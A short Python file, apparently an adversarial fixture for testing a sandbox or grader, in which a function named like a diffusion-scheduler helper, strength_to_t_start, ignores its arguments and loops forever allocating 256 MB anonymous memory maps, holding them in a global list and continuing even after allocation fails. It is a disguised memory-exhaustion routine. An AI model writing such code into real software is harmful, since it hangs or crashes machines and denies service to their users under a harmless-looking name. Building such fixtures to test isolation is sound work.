"""Takes all the memory that it can get, and again when there was none."""

import mmap

EXERCISE = "strength_to_t_start"
SAYS = "`strength_to_t_start` "
ENDLESS = True
HELD = []


def strength_to_t_start(strength, num_inference_steps):
    while True:
        try:
            HELD.append(mmap.mmap(-1, 2**28))
        except (MemoryError, OSError):
            HELD.append(None)
